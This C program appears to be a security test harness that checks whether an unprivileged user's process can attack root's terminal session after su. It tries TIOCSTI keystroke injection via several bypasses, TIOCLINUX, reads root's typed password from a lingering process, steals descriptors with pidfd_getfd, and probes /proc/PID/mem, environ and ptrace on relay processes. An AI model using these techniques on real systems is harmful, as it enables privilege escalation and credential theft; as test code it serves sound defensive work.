// A user's process on a terminal that may be another user's, and all that it can do to that one.
// Build: cc -o terminal terminal.c, and cc -m32 -nostdlib -static -ffreestanding -o terminal32
// terminal32.c beside it.
//
// Each attempt prints a line for each descriptor that it was made on: its name, the descriptor,
// and the error number, 0 if it worked. A test judges by these and by the traces on the terminal.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef TIOCGDEV
#define TIOCGDEV _IOR('T', 0x32, unsigned int)
#endif
// The 32-bit entry of the kernel has its own numbers: asm/unistd_32.h.
#define IOCTL_OF_I386 54
#define DESCRIPTORS 64

static const char usage_text[] =
    "usage: terminal all MARK DEVICE      every attempt, and a process that stays behind\n"
    "       terminal try ATTEMPT MARK     one of: sti high entry32 compat linux\n"
    "       terminal spy DEVICE [PID]     take DEVICE from any process; in PID's user namespace\n"
    "DEVICE is the terminal's device number. Reports go to /srv/alice/MARK.*, and\n"
    "/srv/root/MARK.release and MARK.typed say when to go on.\n";

static FILE *report;
static const char *mark;
static int own_tty = -1;  // /dev/tty
static int null = -1;     // no terminal: shows that a filter refuses, and not the terminal

static void fail(const char *what) {
  fprintf(stderr, "terminal: %s: %s\n", what, strerror(errno));
  exit(1);
}

static void path_of(char *path, size_t size, const char *owner, const char *suffix) {
  if (snprintf(path, size, "/srv/%s/%s.%s", owner, mark, suffix) >= (int)size) exit(2);
}

// The test reads a report once it has its name.
static void publish(const char *from, const char *suffix) {
  char to[256];
  path_of(to, sizeof to, "alice", suffix);
  if (fclose(report) != 0 || rename(from, to) != 0) fail(to);
}

static void wait_for_root(const char *suffix) {
  char path[256];
  path_of(path, sizeof path, "root", suffix);
  while (access(path, F_OK) != 0) usleep(2000);
}

// ---- Typing into the terminal ---------------------------------------------------------------

typedef int request_fn(int fd, unsigned request, char *argument);

static int plainly(int fd, unsigned request, char *argument) {
  return ioctl(fd, request, argument) == 0 ? 0 : errno;
}

// The kernel looks at the low word alone.
static int with_high_word(int fd, unsigned request, char *argument) {
  unsigned long with_more = (unsigned long)request;
  if (sizeof with_more > 4) with_more |= 0xdeadUL << 24 << 24;
  return syscall(SYS_ioctl, fd, with_more, argument) == 0 ? 0 : errno;
}

#ifdef __x86_64__
static int by_32_bit_entry(int fd, unsigned request, char *argument) {
  // An address that a 32-bit register holds.
  static char *low;
  if (low == NULL) {
    low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED) fail("mmap");
  }
  *low = *argument;
  int result;
  __asm__ volatile("int $0x80"
                   : "=a"(result)
                   : "0"(IOCTL_OF_I386), "b"(fd), "c"(request), "d"((unsigned)(unsigned long)low)
                   : "memory", "r8", "r9", "r10", "r11");
  return -result;
}

static int has_32_bit_entry(void) {
  pid_t child = fork();
  if (child == 0) {
    char byte = 0;
    by_32_bit_entry(null, TIOCLINUX, &byte);
    _exit(0);
  }
  int status;
  return waitpid(child, &status, 0) == child && WIFEXITED(status);
}
#endif

static void each_target(const char *name, request_fn *request, unsigned number, int types) {
  const struct {
    const char *name;
    int fd;
  } targets[] = {{"0", 0}, {"1", 1}, {"2", 2}, {"tty", own_tty}, {"null", null}};
  for (size_t i = 0; i < sizeof targets / sizeof *targets; i++) {
    char line[256] = "\6";  // of TIOCLINUX: ask for the shift keys
    if (types) {
      // The shell that reads the line leaves a file of its own.
      snprintf(line, sizeof line, ">/srv/alice/%s.typed-%s-%s\n", mark, name, targets[i].name);
    }
    int error = 0;
    for (char *byte = line; *byte && error == 0; byte++) {
      error = request(targets[i].fd, number, byte);
    }
    fprintf(report, "%s %s %d\n", name, targets[i].name, error);
  }
}

static void try_sti(void) { each_target("sti", plainly, TIOCSTI, 1); }
static void try_high(void) {
  each_target("high", with_high_word, TIOCSTI, 1);
  each_target("linux-high", with_high_word, TIOCLINUX, 0);
}
static void try_linux(void) { each_target("linux", plainly, TIOCLINUX, 0); }

static void try_entry32(void) {
#ifdef __x86_64__
  if (has_32_bit_entry()) {
    each_target("entry32", by_32_bit_entry, TIOCSTI, 1);
    each_target("linux-entry32", by_32_bit_entry, TIOCLINUX, 0);
    return;
  }
#endif
  fprintf(report, "entry32 none %d\n", ENOSYS);
}

// A real 32-bit program; its own report is its descriptor 3.
static void try_compat(void) {
  fflush(report);
  pid_t child = fork();
  if (child == 0) {
    char tty[16], nothing[16];
    snprintf(tty, sizeof tty, "%d", own_tty);
    snprintf(nothing, sizeof nothing, "%d", null);
    int out = fileno(report) == 3 ? 3 : dup2(fileno(report), 3);
    if (out == 3 && fcntl(3, F_SETFD, 0) == 0) {
      execl("/usr/local/bin/terminal32", "terminal32", mark, tty, nothing, (char *)NULL);
    }
    dprintf(3, "compat none %d\n", errno);
    _exit(1);
  }
  int status;
  if (waitpid(child, &status, 0) != child) fail("waitpid");
  if (!WIFEXITED(status)) dprintf(fileno(report), "compat signal %d\n", WTERMSIG(status));
}

static const struct {
  const char *name;
  void (*make)(void);
} attempts[] = {
    {"sti", try_sti},       {"high", try_high},   {"entry32", try_entry32},
    {"compat", try_compat}, {"linux", try_linux},
};

// ---- Holding it -----------------------------------------------------------------------------

static int is_device(const struct stat *st, unsigned device) {
  return S_ISCHR(st->st_mode) && (unsigned)st->st_rdev == device;
}

// Also if it was opened as /dev/tty.
static int is_terminal(int fd, unsigned device) {
  struct stat st;
  unsigned of_tty = 0;
  if (fstat(fd, &st) != 0 || !S_ISCHR(st.st_mode)) return 0;
  return is_device(&st, device) || (ioctl(fd, TIOCGDEV, &of_tty) == 0 && of_tty == device);
}

static void look_at_own(unsigned device) {
  fprintf(report, "tty root's %d\n", own_tty >= 0 && is_terminal(own_tty, device));
  for (int fd = 0; fd < DESCRIPTORS; fd++) {
    if (fd != own_tty && is_terminal(fd, device)) fprintf(report, "held %d 1\n", fd);
  }
}

// Reads and writes the terminal once su has ended, and root has typed a line on it.
static void stay_behind(void) {
  char from[256];
  path_of(from, sizeof from, "alice", "staying");
  signal(SIGHUP, SIG_IGN);
  signal(SIGPIPE, SIG_IGN);
  if (setsid() < 0) fail("setsid");
  report = fopen(from, "we");
  if (report == NULL) fail(from);
  wait_for_root("typed");
  char expected[128];
  snprintf(expected, sizeof expected, "password-%s", mark);
  int fds[] = {0, 1, 2, own_tty};
  for (int i = 0; i < 4; i++) {
    char text[4096] = "";
    struct pollfd ready = {.fd = fds[i], .events = POLLIN};
    if (fds[i] >= 0 && poll(&ready, 1, 0) == 1 && read(fds[i], text, sizeof text - 1) > 0 &&
        strstr(text, expected) != NULL) {
      fprintf(report, "reader %d 1\n", i);
    }
  }
  for (int i = 0; i < 4; i++) {
    if (fds[i] >= 0) dprintf(fds[i], "writer-%s-%d\r\n", mark, i);
  }
  publish(from, "stayed");
  exit(0);
}

// ---- Taking it from another process ---------------------------------------------------------

static int is_relay(const char *comm) {
  return strcmp(comm, "nsshell") == 0 || strcmp(comm, "relay") == 0 ||
         strcmp(comm, "nsshell-relay") == 0;
}

static void read_comm(const char *pid, char *comm, int size) {
  char path[320];
  snprintf(path, sizeof path, "/proc/%s/comm", pid);
  FILE *file = fopen(path, "re");
  *comm = 0;
  if (file == NULL) return;
  if (fgets(comm, size, file) != NULL) comm[strcspn(comm, "\n")] = 0;
  fclose(file);
}

// Its descriptors; how many were taken, of whatever file.
static int take_descriptors(const char *name, const char *pid, unsigned device) {
  int taken = 0;
  int pidfd = (int)syscall(SYS_pidfd_open, atoi(pid), 0);
  for (int fd = 0; fd < DESCRIPTORS; fd++) {
    struct stat st;
    char path[320];
    snprintf(path, sizeof path, "/proc/%s/fd/%d", pid, fd);
    if (stat(path, &st) == 0 && is_device(&st, device)) {
      fprintf(report, "%s %s-link-%d 1\n", name, pid, fd);
    }
    int got = pidfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
    if (got < 0) continue;
    taken++;
    if (is_terminal(got, device)) fprintf(report, "%s %s-descriptor-%d 1\n", name, pid, fd);
    close(got);
  }
  if (pidfd >= 0) close(pidfd);
  return taken;
}

// A process that has just become the user's shell has the old name for a moment: what can be looked
// into then is the shell.
static int is_relay_still(const char *pid) {
  char path[320], program[320];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  ssize_t length = readlink(path, program, sizeof program - 1);
  // One that has ended shows no program: that, too, was the shell, since the relay shows none ever.
  if (length < 0) return errno == EACCES || errno == EPERM;
  program[length] = 0;
  const char *last = strrchr(program, '/');
  return is_relay(last == NULL ? program : last + 1);
}

static void look_into(const char *name, const char *pid) {
  const struct {
    const char *file;
    int flags;
  } files[] = {{"environ", O_RDONLY}, {"mem", O_RDWR}, {"fd", O_RDONLY | O_DIRECTORY}};
  for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
    char path[320];
    snprintf(path, sizeof path, "/proc/%s/%s", pid, files[i].file);
    int fd = open(path, files[i].flags | O_CLOEXEC);
    if (fd < 0) continue;
    if (is_relay_still(pid)) fprintf(report, "%s %s-%s 1\n", name, pid, files[i].file);
    close(fd);
  }
  if (ptrace(PTRACE_SEIZE, atoi(pid), NULL, NULL) == 0) {
    if (is_relay_still(pid)) fprintf(report, "%s %s-ptrace 1\n", name, pid);
    if (ptrace(PTRACE_INTERRUPT, atoi(pid), NULL, NULL) == 0) waitpid(atoi(pid), NULL, __WALL);
    ptrace(PTRACE_DETACH, atoi(pid), NULL, NULL);
  }
}

static void spy(const char *name, unsigned device) {
  DIR *proc = opendir("/proc");
  if (proc == NULL) fail("/proc");
  int taken = 0;
  struct dirent *entry;
  while ((entry = readdir(proc)) != NULL) {
    const char *pid = entry->d_name;
    if (pid[0] < '0' || pid[0] > '9' || atoi(pid) == getpid()) continue;
    char comm[64];
    read_comm(pid, comm, sizeof comm);
    taken += take_descriptors(name, pid, device);
    if (is_relay(comm)) look_into(name, pid);
  }
  closedir(proc);
  // An attempt that takes nothing from anything shows nothing.
  fprintf(report, "%s-taken any %d\n", name, taken);
}

// All capabilities in the user namespace of that process, which its user owns.
static int join_user_namespace(const char *pid) {
  char path[320];
  snprintf(path, sizeof path, "/proc/%s/ns/user", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return errno;
  return setns(fd, CLONE_NEWUSER) == 0 ? 0 : errno;
}

static unsigned number(const char *text) { return (unsigned)strtoul(text, NULL, 10); }

static void all(unsigned device) {
  char from[256];
  path_of(from, sizeof from, "alice", "trying");
  report = fopen(from, "we");
  if (report == NULL) fail(from);
  look_at_own(device);
  for (size_t i = 0; i < sizeof attempts / sizeof *attempts; i++) attempts[i].make();
  fprintf(report, "pid own %d\n", getpid());
  fflush(report);
  // A process of its own: to be found is whatever others hold, and this one among them.
  pid_t child = fork();
  if (child < 0) fail("fork");
  if (child == 0) {
    spy("getfd", device);
    exit(fclose(report));
  }
  waitpid(child, NULL, 0);
  child = fork();
  if (child < 0) fail("fork");
  if (child == 0) stay_behind();
  publish(from, "tried");
  wait_for_root("release");
}

static int raised(int fd) {
  if (fd < 0) return fd;
  int high = fcntl(fd, F_DUPFD, 10);
  close(fd);
  return high;
}

int main(int argc, char **argv) {
  null = open("/dev/null", O_RDWR | O_CLOEXEC);
  report = stdout;
  if (argc >= 3 && strcmp(argv[1], "spy") == 0) {
    int error = argc > 3 ? join_user_namespace(argv[3]) : 0;
    if (argc > 3) printf("joined user %d\n", error);
    if (error == 0) spy("spy", number(argv[2]));
    return 0;
  }
  // The 32-bit program goes on with both, and has its report in a low one.
  null = raised(null);
  own_tty = raised(open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC));
  if (argc == 4 && strcmp(argv[1], "all") == 0) {
    mark = argv[2];
    all(number(argv[3]));
    return 0;
  }
  for (size_t i = 0; i < sizeof attempts / sizeof *attempts; i++) {
    if (argc != 4 || strcmp(argv[1], "try") != 0 || strcmp(argv[2], attempts[i].name) != 0) continue;
    mark = argv[3];
    attempts[i].make();
    return 0;
  }
  fputs(usage_text, stderr);
  return 2;
}
